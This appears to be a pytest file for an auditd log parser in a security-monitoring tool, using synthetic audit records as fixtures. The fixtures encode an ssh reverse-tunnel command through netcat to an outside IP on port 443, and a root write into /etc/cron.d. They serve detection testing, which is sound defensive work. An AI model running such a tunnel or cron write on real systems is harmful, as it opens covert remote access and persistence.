"""auditd raw logs: records gathered per event serial → process, network and file events."""
import io

from vigiles.events import File, Network, Process
from vigiles.sources import ReadError, auditd, detect, read_paths


def hx(text: str) -> str:
    return text.encode().hex().upper()


def rec(rtype: str, serial: int, body: str, ts: str = "1764554497.250", node: str = "") -> str:
    prefix = f"node={node} " if node else ""
    return f"{prefix}type={rtype} msg=audit({ts}:{serial}): {body}".rstrip()


SYSCALL_EXEC = ("arch=c000003e syscall=59 success=yes exit=0 a0=55d1c2a0 a1=55d1c2b0 a2=55d1c2c0 a3=0 items=2 "
                "ppid=48190 pid=48211 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 "
                "fsgid=1000 tty=pts0 ses=3 comm=\"ssh\" exe=\"/usr/bin/ssh\" subj=unconfined key=\"exec\"")
EXECVE = ("argc=9 a0=\"ssh\" a1=\"-o\" a2=" + hx("ProxyCommand=nc %h %p") +
          " a3=\"-fN\" a4=\"-R\" a5=\"2222:localhost:22\" a6=\"cache@185.220.101.47\" a7=\"-p\" a8=\"443\"")
PATH0 = ("item=0 name=\"/usr/bin/ssh\" inode=1835 dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL "
         "cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0")
PROCTITLE = "proctitle=" + "\0".join(["ssh", "-fN", "-R", "2222:localhost:22", "cache@185.220.101.47"]).encode().hex().upper()


def execve_event(serial=9041, ts="1764554497.250", node="", eoe=True):
    lines = [rec("SYSCALL", serial, SYSCALL_EXEC, ts, node), rec("EXECVE", serial, EXECVE, ts, node),
             rec("CWD", serial, "cwd=\"/workspace/repo\"", ts, node), rec("PATH", serial, PATH0, ts, node),
             rec("PROCTITLE", serial, PROCTITLE, ts, node)]
    return lines + ([rec("EOE", serial, "", ts, node)] if eoe else [])


def connect_event(serial, saddr, ts="1764554498.100"):
    return [rec("SYSCALL", serial, "arch=c000003e syscall=42 success=no exit=-115 a0=3 a1=7ffd a2=10 a3=0 items=0 "
                "ppid=48190 pid=48211 auid=4294967295 uid=1000 gid=1000 euid=1000 comm=\"ssh\" exe=\"/usr/bin/ssh\" "
                "key=(null)", ts),
            rec("SOCKADDR", serial, f"saddr={saddr}", ts), rec("PROCTITLE", serial, PROCTITLE, ts),
            rec("EOE", serial, "", ts)]


IPV4_443 = "020001BBB9DC652F0000000000000000"  # AF_INET, port 443, 185.220.101.47
IPV6_22 = "0A000016" + "00000000" + "FD000042000000000000000000000001" + "00000000"  # [fd00:42::1]:22
UNIX = "0100" + hx("/run/nscd/socket") + "00"


def _read(tmp_path, lines, name="audit.log"):
    path = tmp_path / name
    path.write_text("\n".join(lines) + "\n")
    return path, list(read_paths([path]))


def test_detected_by_content(tmp_path):
    path, _ = _read(tmp_path, execve_event())
    assert detect(path).name == "auditd"
    path, _ = _read(tmp_path, ["Dec  1 02:01:37 rl-node audispd: " + execve_event()[0]], "syslog")
    assert detect(path).name == "auditd"


def test_execve_becomes_one_process_event(tmp_path):
    _, items = _read(tmp_path, execve_event(node="rl-node-0417"))
    (proc,) = items
    assert isinstance(proc, Process)
    assert proc.argv == ["ssh", "-o", "ProxyCommand=nc %h %p", "-fN", "-R", "2222:localhost:22",
                         "cache@185.220.101.47", "-p", "443"]
    assert (proc.pid, proc.ppid, proc.exe, proc.cwd, proc.user, proc.host) == (
        48211, 48190, "/usr/bin/ssh", "/workspace/repo", "1000", "rl-node-0417")
    assert proc.ts == 1764554497.25 and proc.source.line == 1
    assert proc.extra["audit_serial"] == "9041" and proc.extra["audit_key"] == "exec"
    assert proc.extra["syscall"] == "execve"


def test_chunked_args_enriched_names_and_proctitle_fallback(tmp_path):
    long_arg = "A" * 30 + " B"
    chunks = f"a1_len={len(long_arg)} a1[0]={hx(long_arg[:16])} a1[1]={hx(long_arg[16:])}"
    enriched = SYSCALL_EXEC + "\x1dARCH=x86_64 SYSCALL=execve AUID=\"agent\" UID=\"agent\" GID=\"agent\""
    lines = [rec("SYSCALL", 1, enriched), rec("EXECVE", 1, f"argc=3 a0=\"echo\" {chunks}"),
             rec("EXECVE", 1, "a2=\"tail\""), rec("EOE", 1, ""),
             rec("SYSCALL", 2, SYSCALL_EXEC.replace("pid=48211", "pid=48212")), rec("PROCTITLE", 2, PROCTITLE),
             rec("EOE", 2, "")]
    _, (first, second) = _read(tmp_path, lines)
    assert first.argv == ["echo", long_arg, "tail"] and first.user == "agent"
    assert second.pid == 48212 and second.argv == ["ssh", "-fN", "-R", "2222:localhost:22", "cache@185.220.101.47"]


def test_connect_with_sockaddr_becomes_network(tmp_path):
    lines = connect_event(7001, IPV4_443) + connect_event(7002, IPV6_22) + connect_event(7003, UNIX)
    _, items = _read(tmp_path, lines)
    assert [type(i) for i in items] == [Network, Network]
    v4, v6 = items
    assert (v4.dst, v4.dport, v4.direction, v4.pid, v4.extra["family"], v4.extra["exit"]) == (
        "185.220.101.47", 443, "outbound", 48211, "inet", -115)
    assert v4.extra["user"] == "1000"  # auid unset: the uid
    assert (v6.dst, v6.dport, v6.direction) == ("fd00:42::1", 22, "internal")


def test_watched_file_created_for_writing(tmp_path):
    lines = [rec("SYSCALL", 55, "arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=7ffd a2=241 a3=1b6 "
                 "items=2 ppid=1 pid=48300 auid=1000 uid=0 euid=0 comm=\"tee\" exe=\"/usr/bin/tee\" key=\"cron\""),
             rec("CWD", 55, "cwd=\"/etc\""),
             rec("PATH", 55, "item=0 name=\"/etc/cron.d/\" inode=2 dev=08:01 mode=040755 nametype=PARENT"),
             rec("PATH", 55, "item=1 name=\"sync\" inode=3 dev=08:01 mode=0100644 nametype=CREATE"),
             rec("EOE", 55, "")]
    _, (file,) = _read(tmp_path, lines)
    assert isinstance(file, File) and (file.path, file.op, file.pid) == ("/etc/sync", "create", 48300)


def test_interleaved_events_and_missing_eoe(tmp_path):
    a, b = execve_event(1, eoe=False), connect_event(2, IPV4_443)
    lines = [a[0], b[0], a[1], b[1], a[2], b[2], a[3], b[3], a[4]]  # b ends (EOE), a never does
    _, items = _read(tmp_path, lines)
    assert [type(i) for i in items] == [Network, Process]
    assert items[1].argv[0] == "ssh" and items[1].source.line == 1


def test_pending_events_are_bounded_and_old_ones_flushed():
    lines = []
    for serial in range(1, 1001):
        lines += execve_event(serial, ts="1764554497.250", eoe=False)[:2]
    stream = io.BytesIO(("\n".join(lines) + "\n").encode())
    reader = auditd.read_stream(stream, "audit.log")
    first = next(reader)
    # The first event came out long before the end: no more than MAX_PENDING were held.
    assert stream.tell() < len(stream.getvalue()) and first.extra["audit_serial"] == "1"
    rest = list(reader)
    assert len(rest) == 999 and rest[-1].extra["audit_serial"] == "1000"
    # An event left without its EOE is flushed once the log has moved MAX_AGE_S past it.
    old = execve_event(5, ts="1764554000.000", eoe=False)
    new = execve_event(6, ts="1764554100.000")
    out = auditd.read_stream(io.BytesIO(("\n".join(old + new) + "\n").encode()), "x")
    assert [e.extra["audit_serial"] for e in out] == ["5", "6"]


def test_malformed_lines_are_reported_and_neighbours_read(tmp_path):
    no_pid = SYSCALL_EXEC.replace(" pid=48211", "")
    lines = (execve_event(1)[:3] + ["this is not an audit record", "type=SYSCALL msg=audit(garbage): x=1"]
             + execve_event(1)[3:] + [rec("SYSCALL", 3, no_pid), rec("EXECVE", 3, "argc=1 a0=\"id\""), rec("EOE", 3, "")]
             + execve_event(4))
    _, items = _read(tmp_path, lines)
    errors = [(i.line, i.message) for i in items if isinstance(i, ReadError)]
    assert [line for line, _ in errors] == [4, 5, 9]
    assert "not an audit record" in errors[0][1] and "without pid" in errors[2][1]
    procs = [i for i in items if isinstance(i, Process)]
    assert [p.extra["audit_serial"] for p in procs] == ["1", "4"] and procs[0].argv[2] == "ProxyCommand=nc %h %p"


def test_bad_hex_does_not_break_the_event(tmp_path):
    lines = [rec("SYSCALL", 1, SYSCALL_EXEC), rec("EXECVE", 1, "argc=2 a0=\"ls\" a1=ZZZ"), rec("EOE", 1, "")]
    _, (proc,) = _read(tmp_path, lines)
    assert proc.argv == ["ls", "ZZZ"]
